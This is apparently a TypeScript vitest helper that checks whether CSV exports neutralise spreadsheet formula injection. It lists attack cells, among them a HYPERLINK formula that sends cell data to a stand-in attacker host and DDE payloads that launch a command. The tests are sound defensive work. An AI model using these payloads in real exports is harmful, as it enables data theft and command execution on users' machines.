/**
 * The cell texts of the spreadsheet formula-injection attack, shared by the
 * tests of every CSV export: each must come out as text a spreadsheet never runs.
 */
import { parse } from 'csv-parse/sync';
import { expect } from 'vitest';

export const FORMULA_ATTACKS = [
  '=HYPERLINK("http://atacante.example/?d="&A2&B2,"Ver ficha")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
] as const;

/** The rows of a CSV as a spreadsheet reads them (quotes removed, doubled quotes undone). */
export function readCsvRows(text: string, delimiter: ';' | ','): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { delimiter, relax_column_count: true }) as string[][];
}

/**
 * Every attack appears in the file only neutralised: as a quoted cell whose
 * text is the attack behind a single quote, so the spreadsheet shows it as text.
 */
export function expectDefused(text: string, delimiter: ';' | ',', attacks: readonly string[] = FORMULA_ATTACKS): void {
  const cells = readCsvRows(text, delimiter).flat();
  for (const attack of attacks) {
    expect(cells, attack).toContain(`'${attack}`);
    expect(cells, attack).not.toContain(attack);
    expect(text, attack).toContain(`"'${attack.replace(/"/g, '""')}"`);
  }
  for (const cell of cells) expect(cell, 'no cell starts as a formula').not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
}
